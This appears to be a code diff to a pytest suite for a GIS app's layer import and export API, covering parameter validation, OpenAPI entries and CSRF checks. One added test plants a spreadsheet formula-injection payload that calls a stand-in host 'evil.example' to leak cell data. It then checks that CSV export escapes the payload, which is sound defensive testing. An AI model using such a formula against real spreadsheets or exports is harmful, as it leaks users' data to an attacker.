@@ -1,15 +1,18 @@
 """Import and export of layers as GIS files, over HTTP and on the command line."""
+import csv
 import io
 import json
+import re
 import zipfile
 
 import geopandas as gpd
 import pytest
 from shapely.geometry import shape
-from sqlalchemy import func, select, text
+from sqlalchemy import func, select
 
 from app.audit.models import AuditEntry
 from app.core.extensions import db
+from tests.conftest import database_url, make_test_app
 
 FORMATS = {"geojson": "chargers.geojson", "gpkg": "chargers.gpkg", "shp": "chargers.zip",
            "csv": "chargers.csv", "kml": "chargers.kml"}
@@ -84,15 +87,39 @@ def test_export_has_the_scope_and_filters_of_the_list(client, auth, demo):
 def test_export_errors(client, auth, demo):
     assert client.get("/api/v1/chargers/export").status_code == 401
     auth.login("planner")
-    assert client.get("/api/v1/chargers/export?format=dwg").status_code == 415
-    assert client.get("/api/v1/chargers/export?colour=red").status_code == 400
+    r = client.get("/api/v1/chargers/export?format=dwg")     # a bad query parameter: 400 (was 415)
+    assert r.status_code == 400 and "format" in r.get_json()["error"]["fields"]
+    r = client.get("/api/v1/chargers/export?colour=red")
+    assert r.status_code == 400 and "status" in r.get_json()["error"]["message"]   # names the layer's filters
+    for query, name in (("status=exploded", "status"), ("sort=secret", "sort"), ("community=123", "community"),
+                        ("limit=0", "limit"), ("bbox=1,2,3", "bbox")):
+        r = client.get(f"/api/v1/chargers/export?{query}")
+        assert r.status_code == 400 and name in r.get_json()["error"]["fields"], query
     assert client.get("/api/v1/rivers/export").status_code == 404
+
+
+def test_csv_export_cells_are_never_run_as_formulas(client, auth, demo):
+    auth.login("planner")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    r = client.post("/api/v1/chargers", content_type="application/json", data=json.dumps(
+        point_feature(103.8386, 36.0496, name=evil, operator="@SUM(1+1)", ports=6)))
+    assert r.status_code == 201, r.get_json()
+    text_ = client.get("/api/v1/chargers/export?format=csv&q=HYPERLINK").data.decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(text_)))[:2]
+    cells = dict(zip(header, row))
+    assert cells["name"] == "'" + evil and cells["operator"] == "'@SUM(1+1)"
+    assert cells["ports"] == "6" and not cells["lon"].startswith("'")
+    # Other formats are not spreadsheets: the name stays as stored.
+    fc = json.loads(client.get("/api/v1/chargers/export?format=geojson&q=HYPERLINK").data)
+    assert fc["features"][0]["properties"]["name"] == evil
 
 
 def test_non_spatial_layer_exports_as_csv(client, auth, demo):
     auth.login("planner")
     text_ = client.get("/api/v1/property-companies/export?format=csv").data.decode("utf-8-sig")
     assert "兰州晟合物业有限责任公司" in text_ and "model_unit" in text_
+    r = client.get("/api/v1/property-companies/export?format=kml")     # 400 (was 415): a bad parameter
+    assert r.status_code == 400 and "geometry" in r.get_json()["error"]["fields"]["format"]
 
 
 def test_bad_rows_are_422_with_row_numbers_and_nothing_is_stored(client, auth, demo):
@@ -119,11 +146,11 @@ def test_bad_rows_are_422_with_row_numbers_and_nothing_is_stored(client, auth, d
 
 def test_invalid_polygon_and_out_of_range_coordinates_are_row_errors(client, auth, demo):
     auth.login("planner")
-    csv_data = ("name,capacity,kind,status,wkt\n"
-                "ok,5,mixed,planned,\"POLYGON((103.895 36.073,103.8955 36.073,103.8955 36.0733,103.895 36.0733,103.895 36.073))\"\n"
-                "bowtie,5,mixed,planned,\"POLYGON((103.895 36.073,103.8955 36.0733,103.8955 36.073,103.895 36.0733,103.895 36.073))\"\n"
-                "far,5,mixed,planned,\"POLYGON((203.895 36.073,203.8955 36.073,203.8955 36.0733,203.895 36.073))\"\n"
-                "notwkt,5,mixed,planned,POLYGON((1 2\n").encode()
+    csv_data = (b"name,capacity,kind,status,wkt\n"
+                b"ok,5,mixed,planned,\"POLYGON((103.895 36.073,103.8955 36.073,103.8955 36.0733,103.895 36.0733,103.895 36.073))\"\n"
+                b"bowtie,5,mixed,planned,\"POLYGON((103.895 36.073,103.8955 36.0733,103.8955 36.073,103.895 36.0733,103.895 36.073))\"\n"
+                b"far,5,mixed,planned,\"POLYGON((203.895 36.073,203.8955 36.073,203.8955 36.0733,203.895 36.073))\"\n"
+                b"notwkt,5,mixed,planned,POLYGON((1 2\n")
     before = count("bike_zones")
     r = upload(client, "bike-zones", csv_data, "zones.csv")
     assert r.status_code == 422
@@ -271,6 +298,11 @@ def test_cli_import_reports_row_errors_and_fails(runner, demo, tmp_path):
 def test_export_and_import_are_in_openapi(client):
     paths = client.get("/api/v1/openapi.json").get_json()["paths"]
     assert "/api/v1/{layer}/export" in paths and "/api/v1/{layer}/import" in paths
+    names = {p["name"] for p in paths["/api/v1/{layer}/export"]["get"]["parameters"]}
+    assert {"layer", "format", "bbox", "limit", "offset", "sort", "q", "area"} <= names
+    upload_ = paths["/api/v1/{layer}/import"]["post"]
+    assert "multipart/form-data" in upload_["requestBody"]["content"]
+    assert {"201", "413", "415", "422"} <= set(upload_["responses"])
 
 
 def test_a_database_refusal_is_reported_with_its_row_number(client, auth, demo):
@@ -295,3 +327,22 @@ def test_areas_import_in_file_order_parents_first(client, auth, demo):
     assert r.get_json()["imported"] == 2
     grid = features(client, "grids", "area=620102011005")
     assert [f["properties"]["parent_code"] for f in grid] == ["620102011005"]
+
+
+def test_a_bearer_token_import_needs_no_csrf_token_and_a_cookie_session_import_does(app, auth, demo):
+    csrf_client = make_test_app(database_url("test"), WTF_CSRF_ENABLED=True).test_client()
+    data = geojson_file([point_feature(103.8386, 36.0496)])
+    r = csrf_client.post("/api/v1/chargers/import", data={"file": (io.BytesIO(data), "a.geojson")},
+                         content_type="multipart/form-data", headers=auth.token("planner"))
+    assert r.status_code == 201, r.get_json()
+    page = csrf_client.get("/login").get_data(as_text=True)
+    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
+    csrf_client.post("/login", data={"username": "planner", "password": "wuwei-planner", "csrf_token": token})
+    before = count("chargers")
+    r = csrf_client.post("/api/v1/chargers/import", data={"file": (io.BytesIO(data), "a.geojson")},
+                         content_type="multipart/form-data")
+    assert r.status_code == 400 and "CSRF" in r.get_json()["error"]["message"]
+    assert count("chargers") == before
+    r = csrf_client.post("/api/v1/chargers/import", data={"file": (io.BytesIO(data), "a.geojson")},
+                         content_type="multipart/form-data", headers={"X-CSRFToken": token})
+    assert r.status_code == 201 and count("chargers") == before + 1
